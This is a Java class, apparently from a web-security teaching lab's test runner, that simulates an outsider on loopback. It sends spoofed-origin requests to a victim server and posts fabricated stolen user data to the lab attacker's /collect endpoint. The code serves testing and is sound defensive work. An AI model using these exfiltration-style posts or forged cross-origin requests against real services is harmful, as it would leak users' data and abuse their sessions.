package lab.runner.outside;

import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import lab.runner.LabServers;
import lab.victim.journal.RequestTag;

/**
 * Someone else on the machine while a case runs: another tab or a script that reaches the lab's servers on
 * loopback, sends what it likes (any Origin, any User-Agent, a guessed tag or nonce, the servers' own host names),
 * but has neither the lab browser's tag nor the case's nonce. Bounded: each call sends a given number of requests,
 * one at a time, each answered before the next; written by hand on a socket, since Java's HTTP client may not set
 * {@code Host} and the lab's names under {@code .localhost} resolve only in the browser.
 */
public final class Outsider {

    /** What every outsider request says it is; a guessed lab tag is appended to some. */
    public static final String USER_AGENT = "Mozilla/5.0 (an outsider on the same machine)";

    private final LabServers servers;
    private int sent;

    public Outsider(LabServers servers) {
        this.servers = servers;
    }

    /** How many requests this outsider has sent so far (victim and attacker together). */
    public int sent() {
        return sent;
    }

    /**
     * Sends {@code count} requests {@code method path} to the victim with {@code origin} and no cookie, as the case's
     * page would send them; every other one carries a guessed lab tag.
     */
    public void flood(String method, String path, String origin, int count) {
        URI victim = URI.create(servers.victim().origin());
        for (int i = 0; i < count; i++) {
            String userAgent = i % 2 == 0 ? USER_AGENT : RequestTag.append(USER_AGENT, RequestTag.random());
            boolean body = !method.equals("GET") && !method.equals("OPTIONS");
            send(
                    servers.victim().port(),
                    method + " " + path + " HTTP/1.1\r\nHost: " + victim.getAuthority() + "\r\nOrigin: " + origin
                            + "\r\nUser-Agent: " + userAgent + "\r\n"
                            + (method.equals("OPTIONS") ? "Access-Control-Request-Method: PUT\r\n" : ""),
                    body ? "application/json" : null,
                    body ? "{\"email\":\"outsider@example.com\"}" : null);
        }
    }

    /**
     * Posts loot holding Alice's private data to the attacker's backend from another page's origin, as the lab kit
     * would: once naming no case, once naming a guessed one.
     */
    public void fakeLoot(String scenario, String email) {
        URI attacker = URI.create(servers.attacker().origin());
        for (String nonce : new String[] {null, RequestTag.random()}) {
            String body = "{\"scenario\":\"" + scenario + "\",\"data\":{\"username\":\"alice\",\"email\":\"" + email
                    + "\"}" + (nonce == null ? "" : ",\"case\":\"" + nonce + "\"") + "}";
            send(
                    servers.attacker().port(),
                    "POST /collect HTTP/1.1\r\nHost: " + attacker.getAuthority()
                            + "\r\nOrigin: http://other-tab.localhost\r\nUser-Agent: " + USER_AGENT + "\r\n",
                    "text/plain",
                    body);
        }
    }

    /** Sends one request (its request line and headers, then a body if any) and reads the whole answer. */
    private void send(int port, String head, String contentType, String body) {
        byte[] bytes = body == null ? new byte[0] : body.getBytes(StandardCharsets.UTF_8);
        String request = head
                + (contentType == null ? "" : "Content-Type: " + contentType + "\r\n")
                + (body == null ? "" : "Content-Length: " + bytes.length + "\r\n")
                + "Connection: close\r\n\r\n";
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
            socket.setSoTimeout(5_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.getBytes(StandardCharsets.ISO_8859_1));
            out.write(bytes);
            out.flush();
            socket.getInputStream().readAllBytes();
            sent++;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
